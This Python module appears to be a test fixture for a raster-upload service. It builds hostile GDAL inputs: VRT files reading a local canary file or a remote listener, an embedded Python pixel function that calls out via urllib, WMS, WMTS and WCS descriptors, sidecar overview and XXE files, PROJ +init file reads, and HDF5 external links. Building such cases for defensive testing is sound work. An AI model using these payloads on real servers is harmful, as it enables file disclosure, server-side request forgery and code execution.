"""Rasters that would have GDAL read files of the machine, or ask a server: what an attacker uploads."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from tempfile import TemporaryDirectory

import h5py
import numpy
import rasterio
from rasterio.io import MemoryFile
from rasterio.transform import from_origin

SIZE = 64
CANARY = 173
"""The value of its pixels, which no other raster has."""


def canary_raster(path: Path, marker: str) -> None:
    """A raster of the machine's, which no job may read: its tags and its pixels are told from others."""
    path.write_bytes(tiff(tags={"MARKER": marker}, value=CANARY))


def tiff(*, tags: dict[str, str] | None = None, value: int = 7) -> bytes:
    with MemoryFile() as file:
        with file.open(
            driver="GTiff",
            width=SIZE,
            height=SIZE,
            count=1,
            dtype="uint8",
            crs="EPSG:32632",
            transform=from_origin(500_000, 5_600_000, 10, 10),
        ) as dataset:
            dataset.write(numpy.full((SIZE, SIZE), value, "uint8"), 1)
            dataset.update_tags(**(tags or {}))
        content: bytes = file.read()
    return content


def vrt(source: str, *, band: str = "") -> bytes:
    """A virtual raster of one file."""
    window = f'xOff="0" yOff="0" xSize="{SIZE}" ySize="{SIZE}"'
    inner = band or (
        '<VRTRasterBand dataType="Byte" band="1"><SimpleSource><SourceFilename relativeToVRT="0">'
        f"{source}</SourceFilename><SourceBand>1</SourceBand><SrcRect {window}/><DstRect {window}/>"
        "</SimpleSource></VRTRasterBand>"
    )
    return f'<VRTDataset rasterXSize="{SIZE}" rasterYSize="{SIZE}">{inner}</VRTDataset>'.encode()


def files(canary: Path, text: Path, url: str) -> dict[str, bytes]:
    """Names and contents. `canary` is a raster, `text` a text file, `url` leads to a listener."""
    remote = f"/vsicurl/{url}/x.tif"
    raw = (
        '<VRTRasterBand dataType="Byte" band="1" subClass="VRTRawRasterBand"><SourceFilename '
        f'relativeToVRT="0">{text}</SourceFilename></VRTRasterBand>'
    )
    code = (
        '<VRTRasterBand dataType="Byte" band="1" subClass="VRTDerivedRasterBand">'
        f"<PixelFunctionLanguage>Python</PixelFunctionLanguage><PixelFunctionType>f</PixelFunctionType><PixelFunctionCode><![CDATA[\n"
        f"import urllib.request\ndef f(*a, **k):\n    urllib.request.urlopen('{url}/python')\n]]>"
        "</PixelFunctionCode></VRTRasterBand>"
    )
    found = {
        "virtual/local.vrt": vrt(str(canary)),
        "virtual/remote.vrt": vrt(remote),
        "virtual/nested.vrt": vrt("/vsizip/a.zip/local.vrt"),
        "virtual/raw.vrt": vrt("", band=raw),
        "virtual/python.vrt": vrt("", band=code),
        "virtual/local.tif": vrt(str(canary)),
        "virtual/remote.png": vrt(remote),
        "virtual/warped.jp2": vrt(remote).replace(b"<VRTDataset", b'<VRTDataset subClass="VRTWarpedDataset"'),
        "virtual/space.img": b"\n\n   " + vrt(str(canary)),
        "virtual/bom.tif": b"\xef\xbb\xbf" + vrt(str(canary)),
        "service/tms.tif": (
            f'<GDAL_WMS><Service name="TMS"><ServerUrl>{url}/${{z}}</ServerUrl></Service><DataWindow>'
            "<SizeX>64</SizeX><SizeY>64</SizeY></DataWindow></GDAL_WMS>"
        ).encode(),
        "service/wmts.png": (
            f"<GDAL_WMTS><GetCapabilitiesUrl>{url}/c</GetCapabilitiesUrl></GDAL_WMTS>"
        ).encode(),
        "service/wcs.tif": f"<WCS_GDAL><ServiceURL>{url}/wcs?</ServiceURL></WCS_GDAL>".encode(),
        "service/index.tif": (
            f"<GDALTileIndexDataset><IndexDataset>/vsicurl/{url}/i.gpkg</IndexDataset></GDALTileIndexDataset>"
        ).encode(),
        "service/index.gti": b"<GDALTileIndexDataset><IndexDataset>/x</IndexDataset></GDALTileIndexDataset>",
        "service/cached.tif": (
            f"<MRF_META><CachedSource><Source>/vsicurl/{url}/m.tif</Source></CachedSource><Raster>"
            '<Size x="64" y="64"/></Raster></MRF_META>'
        ).encode(),
        "service/stacit.tif": (
            '{"type": "FeatureCollection", "stac_version": "1.0.0", "features": [{"assets": {"a": {"href": '
            f'"{url}/stacit.tif"}}}}}}]}}'
        ).encode(),
        "zip/N10E010.hgt.zip": zipped({"N10E010.hgt": vrt(remote), "N10E010.tif": vrt(str(canary))}),
        "zip/archive.tif": zipped({"archive.tif": vrt(remote)}),
        # What a name says is no path, and no driver.
        "vsicurl/http/127.0.0.1/name.tif": tiff(),
        "name/NETCDF:a.tif": tiff(),
        "name/GTI:a.tif": tiff(),
        "tags/local.tif": pointing(str(canary)),
        "tags/remote.tif": pointing(remote),
    }
    found["beside/init.tif"] = tiff()
    found["beside/init.tif.aux.xml"] = f"<PAMDataset><SRS>+init={text}:key</SRS></PAMDataset>".encode()
    return found | beside(canary, remote, url) | hierarchical(canary, text)


def beside(canary: Path, remote: str, url: str) -> dict[str, bytes]:
    """Rasters whose sidecars refer elsewhere."""
    overviews = (
        '<PAMDataset><Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">{}</MDI></Metadata></PAMDataset>'
    )
    grid = (
        "<PAMDataset><SRS>GEOGCS[&quot;a&quot;,DATUM[&quot;a&quot;,SPHEROID[&quot;a&quot;,6378137,298.25]],"
        "PRIMEM[&quot;Greenwich&quot;,0],UNIT[&quot;degree&quot;,0.0174532925199433],EXTENSION[&quot;PROJ4"
        "&quot;,&quot;+proj=longlat +ellps=bessel +nadgrids={} +no_defs&quot;]]</SRS></PAMDataset>"
    )
    sidecars = {
        "ovr-local.tif.ovr": vrt(str(canary)),
        "ovr-remote.tif.ovr": vrt(remote),
        "msk-local.tif.msk": vrt(str(canary)),
        "aux-local.tif.aux.xml": overviews.format(canary).encode(),
        "aux-remote.tif.aux.xml": overviews.format(remote).encode(),
        "grid-local.tif.aux.xml": grid.format(canary).encode(),
        "grid-remote.tif.aux.xml": grid.format(f"{url}/grid.tif").encode(),
        "entity.tif.aux.xml": (
            f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{canary}.txt">]><PAMDataset><Metadata>'
            '<MDI key="a">&x;</MDI></Metadata></PAMDataset>'
        ).encode(),
        "linked-overview.tif.ovr": pointing(remote),
    }
    made: dict[str, bytes] = {}
    for name, content in sidecars.items():
        made[f"beside/{name.partition('.')[0]}.tif"] = tiff()
        made[f"beside/{name}"] = content
    return made


def pointing(target: str) -> bytes:
    """A TIFF in whose own metadata GDAL finds the name of a file with overviews."""
    with TemporaryDirectory() as folder:
        path = Path(folder) / "a.tif"
        path.write_bytes(tiff())
        with rasterio.open(path, "r+") as dataset:
            dataset.update_tags(ns="OVERVIEWS", OVERVIEW_FILE=target)
        return path.read_bytes()


def hierarchical(canary: Path, text: Path) -> dict[str, bytes]:
    """HDF5 and netCDF that keep values elsewhere, or link there."""
    made: dict[str, bytes] = {}
    for extension in ("h5", "nc"):
        for kind in ("external", "link", "virtual", "init"):
            file = io.BytesIO()
            with h5py.File(file, "w") as opened:
                if kind == "external":
                    opened.create_dataset(
                        "a", (SIZE, SIZE), "uint8", external=[(str(canary), 0, SIZE * SIZE)]
                    )
                elif kind == "init":
                    opened.create_dataset("crs", data=0).attrs["spatial_ref"] = f"+init={text}:key"
                    opened.create_dataset("a", (SIZE, SIZE), "uint8").attrs["grid_mapping"] = "crs"
                elif kind == "link":
                    opened["a"] = h5py.ExternalLink(str(canary), "/a")
                else:
                    layout = h5py.VirtualLayout((SIZE, SIZE), "uint8")
                    layout[:] = h5py.VirtualSource(str(canary), "a", (SIZE, SIZE))
                    opened.create_virtual_dataset("a", layout)
            made[f"hierarchical/{kind}.{extension}"] = file.getvalue()
    return made


def zipped(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()
